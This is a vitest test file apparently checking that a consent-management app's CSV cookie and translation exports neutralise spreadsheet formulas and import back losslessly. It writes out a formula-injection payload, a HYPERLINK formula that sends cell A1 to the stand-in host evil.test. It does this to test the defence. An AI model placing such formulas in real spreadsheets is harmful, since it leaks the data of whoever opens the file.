import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CookieRow, TranslationRow } from '../store/types';
import { caller, type Call } from './consentApi';
import { login } from './http';
import { startTestServer, type TestServer } from './startTestServer';

let server: TestServer;
let owner: Call;
let cookie = '';
beforeAll(async () => {
  server = await startTestServer();
  owner = await caller(server.baseUrl, 'owner@demo.test');
  cookie = await login(server.baseUrl, 'owner@demo.test');
});
afterAll(() => server.close());

const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Details")';
const download = async (path: string) => (await fetch(`${server.baseUrl}${path}`, { headers: { cookie } })).text();
const upload = async (path: string, csv: string) => {
  const res = await fetch(`${server.baseUrl}${path}`, { method: 'POST', headers: { cookie, 'content-type': 'text/csv' }, body: csv });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
};
/** Every cell of the file, header row included. */
const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();

describe('CSV exports (SEC-6)', () => {
  it('[SEC-6] the cookie export neutralises formulas, and importing it back changes nothing', async () => {
    const created = await owner<{ id: number }>('POST', '/cookies', {
      consentSolutionId: 1,
      name: '-tracker',
      domain: '.demo-shop.test',
      category: 'marketing',
      expiryDays: 30,
      purpose: { en: FORMULA, fr: "'déjà vu", de: '+49 tracking' },
      dataProcessor: { name: '@Evil Corp', privacyPolicyUrl: 'https://evil.test/privacy' },
    });
    expect(created.status).toBe(201);
    const before = structuredClone((server.store.state().cookies as CookieRow[]).find((c) => c.id === created.body.id));

    const csv = await download('/consent-solutions/1/cookies/export');
    for (const cell of cells(csv)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells(csv)).toEqual(expect.arrayContaining(["'-tracker", `'${FORMULA}`, "''déjà vu", "'+49 tracking", "'@Evil Corp"]));

    const reimported = await upload('/consent-solutions/1/cookies/import', csv);
    expect(reimported.status).toBe(200);
    expect(reimported.body).toMatchObject({ created: 0, updated: 0 });
    expect((server.store.state().cookies as CookieRow[]).find((c) => c.id === created.body.id)).toEqual(before);
  });

  it('[SEC-6] the translation export neutralises formulas, and its import round-trips them losslessly', async () => {
    const texts = {
      'popup.bannerHeading': '=1+1',
      'popup.acceptButton': "'Accept'",
      'popup.declineButton': '@decline',
      'categories.marketing.name': '-Marketing',
    };
    const seeded = ['key,language,text', ...Object.entries(texts).map(([key, text]) => Papa.unparse([[key, 'en', text]]))].join('\n');
    // A file written by hand with the escape, as our export writes it.
    const escaped = seeded.replace(/,en,(.)/g, ",en,'$1");
    expect((await upload('/consent-solutions/1/translations/import', escaped)).status).toBe(200);
    const stored = (server.store.state().translations as TranslationRow[]).find((row) => row.consentSolutionId === 1 && row.language === 'en');
    expect(stored?.texts.popup?.bannerHeading).toBe('=1+1');
    expect(stored?.texts.popup?.acceptButton).toBe("'Accept'");

    const csv = await download('/consent-solutions/1/translations/export?format=csv');
    for (const cell of cells(csv)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    const again = await upload('/consent-solutions/1/translations/import?dryRun=true', csv);
    expect(again.status).toBe(200);
    expect(again.body.changes).toEqual([]);
  });
});
